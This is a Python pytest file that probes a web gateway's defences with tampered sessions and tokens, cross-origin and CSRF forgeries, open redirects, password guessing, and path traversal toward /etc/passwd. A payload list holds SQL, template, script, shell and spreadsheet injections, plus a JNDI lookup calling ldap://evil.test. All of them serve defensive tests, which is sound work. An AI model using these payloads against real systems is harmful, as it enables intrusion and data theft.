"""A stranger walks round the gateway and tries every door: all refused, and nothing told of anybody.

What is tried elsewhere is listed in docs/security.md beside these: forged names, large and slow bodies and
heads (tests/api/guards, tests/api/test_serving.py), somebody else's id in every address (test_tenants.py),
every route without a permission (test_roles.py), names in logs (test_no_names_told.py).
"""

import csv
import io

import pytest

from api.access.recognising import COOKIE, CSRF_HEADER
from api.application import make_application
from api.background.file_deeds import as_csv
from api.commands.roles import ROLES
from api.design_system.assets import asset
from api.guards.how_often import Rates
from api.guards.order import Guards
from api.pages.signing_in.handlers import inside
from api.rest.matrix import SAFE, standing_routes
from gateway.accounts.tables import SessionRow, TokenRow
from gateway.accounts.tokens import secret_digest
from gateway.people.tables import PersonRow
from gateway.storage.store import Store
from tests.api.asking import Asking, Text
from tests.api.at_a_browser import at_a_browser
from tests.api.doors import ORIGIN, UNHURRIED, Entrance
from tests.api.two_tenants import two_tenants
from tests.api.watching.listening import listening
from tests.gateway.ground import KEYS, Ids, StoppedClock

NAME = "Marguerite"


@pytest.fixture(scope="module")
def doors(sqlite_template, tmp_path_factory):
    file = tmp_path_factory.mktemp("tour") / "gateway.db"
    file.write_bytes(sqlite_template.read_bytes())
    store = Store(f"sqlite:///{file}", keys=KEYS, clock=StoppedClock(), new_id=Ids())
    store.transact(two_tenants)
    yield Entrance(store, make_application(store, UNHURRIED))
    store.close()


@pytest.fixture(autouse=True)
def nothing_told():
    """Whatever a stranger tries, the log holds no name."""
    with listening() as heard:
        yield
    assert NAME not in heard.text
    assert "example.org" not in heard.text


# sessions and tokens ----------------------------------------------------------------------------------


def changed(secret):
    """Every way in which one letter of a secret is another, and a few besides."""
    other = {True: "A", False: "B"}
    for place in (0, len(secret) // 2, len(secret) - 1):
        yield secret[:place] + other[secret[place] != "A"] + secret[place + 1 :]
    yield from (secret[:-1], secret + "A", secret.swapcase(), "", "null", secret * 2)


def test_a_session_that_was_tampered_with_is_no_session(doors):
    client = at_a_browser(doors, "officer")
    good = client.headers["Cookie"].partition("=")[2]
    assert client.get("/api/v1/tasks").status_code == 200
    for secret in changed(good):
        asked = doors.client(Cookie=f"{COOKIE}={secret}")
        assert asked.get("/api/v1/tasks").status_code == 401, secret


def test_a_token_that_was_tampered_with_is_no_token(doors):
    good = doors.as_("officer").headers["Authorization"].removeprefix("Bearer ")
    for secret in [*changed(good), secret_digest(good), f"{good} {good}"]:
        asked = doors.client(Authorization=f"Bearer {secret}")
        assert asked.get("/api/v1/people/P-2").status_code == 401, secret
    for scheme in ("Basic", "bearer:", "Token", ""):
        assert doors.client(Authorization=f"{scheme} {good}").get("/api/v1/people/P-2").status_code == 401


def test_what_is_kept_of_a_secret_opens_nothing(doors):
    """Whoever reads the database has digests, and a digest is no secret."""
    at_a_browser(doors, "officer")
    with doors.store.reading() as work:
        digests = [row.digest for row in (*work.where(SessionRow), *work.where(TokenRow))]
    for digest in digests:
        assert doors.client(Cookie=f"{COOKIE}={digest}").get("/api/v1/tasks").status_code == 401
        assert doors.client(Authorization=f"Bearer {digest}").get("/api/v1/tasks").status_code == 401


# other people's pages ---------------------------------------------------------------------------------


def confirm(client, **headers):
    return client.post("/api/v1/services/S-1/confirm", json={}, headers=headers)


def test_a_csrf_token_of_another_session_is_refused(doors):
    one, other = at_a_browser(doors, "officer"), at_a_browser(doors, "officer")
    assert confirm(one).status_code == 200
    for token in (other.headers[CSRF_HEADER], "", "null", one.headers[CSRF_HEADER][:-1]):
        answer = confirm(one, **{CSRF_HEADER: token})
        assert (answer.status_code, answer.json()["type"]) == (403, "/problems/forged")


@pytest.mark.parametrize(
    "headers",
    [
        {"Origin": "https://evil.test"},
        {"Origin": "null"},
        {"Origin": ORIGIN.replace("https", "http")},
        {"Origin": f"{ORIGIN}.evil.test"},
        {"Origin": "", "Sec-Fetch-Site": "cross-site"},
    ],
)
def test_a_change_from_another_origin_is_refused(doors, headers):
    answer = confirm(at_a_browser(doors, "officer"), **headers)
    assert (answer.status_code, answer.json()["type"]) == (403, "/problems/forged")


def test_no_other_origin_may_read(doors):
    for path in ("/api/v1/tasks", "/healthz", "/api/v1/openapi.json"):
        answer = doors.as_("officer").get(path, headers={"Origin": "https://evil.test"})
        assert "access-control-allow-origin" not in answer.headers
    asked = {"Origin": "https://evil.test", "Access-Control-Request-Method": "POST"}
    assert doors.stranger.options("/api/v1/people", headers=asked).status_code in (401, 405)


def test_signing_out_ends_the_session_and_clears_the_browser(doors):
    client = at_a_browser(doors, "officer")
    answer = client.delete("/api/v1/session")
    assert answer.status_code == 204
    assert answer.headers["clear-site-data"] == '"cache", "storage"'
    assert client.get("/api/v1/tasks").status_code == 401


@pytest.mark.parametrize(
    "elsewhere", ["https://evil.test", "//evil.test", "/\\evil.test", "javascript:alert(1)"]
)
def test_nobody_is_led_elsewhere_after_signing_in(elsewhere):
    assert inside(elsewhere) == "/"


# guessing ---------------------------------------------------------------------------------------------


def test_passwords_cannot_be_guessed_one_after_another(doors):
    rates = Rates(address="100000/minute", account="100000/minute", sign_in="30/minute;300/hour")
    app = make_application(
        doors.store, type(UNHURRIED)(origins=frozenset({ORIGIN}), guards=Guards(rates=rates))
    )
    client = Entrance(doors.store, app).stranger
    told = [
        client.post(
            "/api/v1/session", json={"email": f"{NAME}{each}@example.org", "password": "correct horse"}
        )
        for each in range(33)
    ]
    assert [answer.status_code for answer in told] == [401] * 30 + [429] * 3
    assert 1 <= int(told[-1].headers["retry-after"]) <= 60
    assert len({answer.json()["detail"] for answer in told[:30]}) == 1


# paths ------------------------------------------------------------------------------------------------

CLIMBING = [
    "../../pyproject.toml",
    "..%2f..%2fpyproject.toml",
    "%2e%2e/%2e%2e/pyproject.toml",
    "..%252f..%252fpyproject.toml",
    "..\\..\\pyproject.toml",
    "..%5c..%5cpyproject.toml",
    "/etc/passwd",
    "%2fetc%2fpasswd",
    "....//....//pyproject.toml",
    "..;/..;/pyproject.toml",
    "file:///etc/passwd",
]


@pytest.mark.parametrize("climbing", CLIMBING)
@pytest.mark.parametrize(
    "under", ["/static/", "/api/v1/exports/", "/api/v1/tasks/", "/open-referral/services/"]
)
def test_no_path_leads_to_a_file(doors, under, climbing):
    for tail in ("", "/file"):
        answer = doors.as_("officer").get(f"{under}{climbing}{tail}", follow_redirects=False)
        assert answer.status_code in (400, 404, 405, 422), answer.status_code
        assert "[project]" not in answer.text
        assert "root:" not in answer.text


def test_no_folder_is_listed(doors):
    for path in ("/static", "/static/", "/static/images/"):
        answer = doors.stranger.get(path, follow_redirects=False)
        assert answer.status_code in (307, 404)
        assert "Index of" not in answer.text
        assert "images" not in answer.text.replace(asset("images/favicon.svg"), "")


def test_a_method_cannot_be_another_than_it_says(doors):
    """Nor does TRACE tell a stranger what a proxy added."""
    overrides = ("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override")
    for header in overrides:
        answer = doors.as_("officer").get("/api/v1/people/P-2", headers={header: "DELETE"})
        assert answer.status_code == 200
        answer = doors.as_("provider").post("/api/v1/tasks/T-1?_method=GET", headers={header: "GET"})
        assert answer.status_code == 405
    for method in ("TRACE", "TRACK", "CONNECT", "PROPFIND"):
        assert doors.stranger.request(method, "/api/v1/people").status_code == 405


def test_what_may_be_done_is_told_of_the_path_that_is_described(doors):
    """``/people/search`` would fit ``/people/{person_id}`` too, whose methods are not its own."""
    for path, may in (("/api/v1/people/search", "POST"), ("/api/v1/people/P-2", "GET, PUT")):
        answer = doors.as_("officer").options(path)
        assert (answer.status_code, answer.headers["Allow"]) == (405, may)


# words that are orders somewhere else -----------------------------------------------------------------

ORDERS = [
    "' OR '1'='1' --",
    "'; DROP TABLE people; --",
    "1) UNION SELECT password FROM credentials --",
    "x{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{0.__class__}%s%n%x",
    "<script>alert(1)</script>",
    "$(id)`id`;id|id&&id",
    "=cmd|'/c calc'!A1",
    "${jndi:ldap://evil.test/a}",
    "\r\nSet-Cookie: a=b\r\n\r\n",
    "../../../../etc/passwd",
]
"""For SQL, templates, formats, pages, shells, spreadsheets, directories, headers, paths."""


@pytest.mark.parametrize("order", ORDERS)
def test_an_order_in_any_text_is_a_text(doors, order):
    """Every operation, with it in every text: never a fault of ours, and never a header."""
    asking = Asking(doors.app, Text(order, order))
    client = doors.as_("duty_manager")
    for method, path, said in asking.operations():
        answer = client.request(**asking.request(method, path, said))
        assert answer.status_code < 500, (method, path, answer.text[:200])
        assert "a=b" not in answer.headers.get("set-cookie", "")
    with doors.store.reading() as work:
        assert len(work.where(PersonRow)) >= 5


@pytest.mark.parametrize("order", ORDERS)
def test_a_name_that_is_an_order_is_kept_and_told_as_it_is(doors, order):
    client = doors.as_("officer")
    made = client.post("/api/v1/people", json={"forename": order.strip(), "surname": "Alder"})
    assert made.status_code == 201, made.text
    told = client.get(made.headers["location"]).json()
    assert told["forename"] == order.strip()


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
def test_no_cell_of_a_list_is_a_formula(first):
    cell = f"{first}HYPERLINK(1)"
    (row,) = csv.reader(io.StringIO(as_csv([[cell, 7]]).decode(), newline=""))
    assert row == [f"'{cell}", "7"]


# everything at once -----------------------------------------------------------------------------------


def test_a_stranger_changes_nothing_anywhere(doors):
    """Whatever is asked of whatever route, with and without a body: the rows are those that were there."""
    with doors.store.reading() as work:
        before = {row.id: row.version for row in work.where(PersonRow)}
    asking = Asking(doors.app, Text(NAME, "x"))
    said = {(method, path): words for method, path, words in asking.operations()}
    for route in standing_routes(doors.app.routes):
        words = said.get((route.method, route.path))
        if words is None or route.method in SAFE or route.public:
            continue
        for client in (
            doors.stranger,
            doors.client(Cookie=f"{COOKIE}=x"),
            doors.client(Authorization="Bearer x"),
        ):
            assert client.request(**asking.request(route.method, route.path, words)).status_code == 401
    with doors.store.reading() as work:
        assert {row.id: row.version for row in work.where(PersonRow)} == before


def test_nobody_is_told_of_faults_more_than_that_there_was_one(doors):
    for role in ROLES:
        answer = doors.as_(role).get("/api/v1/people/P-NONE")
        assert not {"traceback", "sqlalchemy", "file"} & set(answer.text.lower().split())
